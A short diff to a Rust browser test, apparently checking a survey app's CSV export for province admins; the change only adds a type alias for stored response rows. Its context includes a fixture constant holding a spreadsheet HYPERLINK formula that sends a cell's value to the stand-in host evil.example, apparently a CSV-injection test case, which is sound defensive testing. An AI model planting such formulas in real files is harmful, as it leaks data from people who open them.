@@ -18,6 +18,9 @@ const TAN_PHU: &str = "25195";
 const THAC_MO: &str = "25216";
 const SET: &str = "dong-nai-2026";
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Mở\")";
+/// A stored response: id, commune code, channel, overall rating, comment.
+type StoredResponse = (i64, String, String, Option<i64>, Option<String>);
+
 /// Enough responses for many chunks of the compressed body.
 const RESPONSES: usize = 2400;
 
@@ -158,7 +161,7 @@ async fn a_province_admin_downloads_whole_csv_files_in_chromium() {
         .unwrap();
     let (header, rows) = read_csv(&downloaded(&dir, "hailong-responses-").await, "response_id");
 
-    let stored: Vec<(i64, String, String, Option<i64>, Option<String>)> = sqlx::query_as(
+    let stored: Vec<StoredResponse> = sqlx::query_as(
         "select r.id, c.code, r.channel, o.value_int, m.value_text from responses r \
          join desks d on d.id = r.desk_id join admin_units c on c.id = d.commune_id \
          left join answers o on o.response_id = r.id and o.question_id = 'overall' \
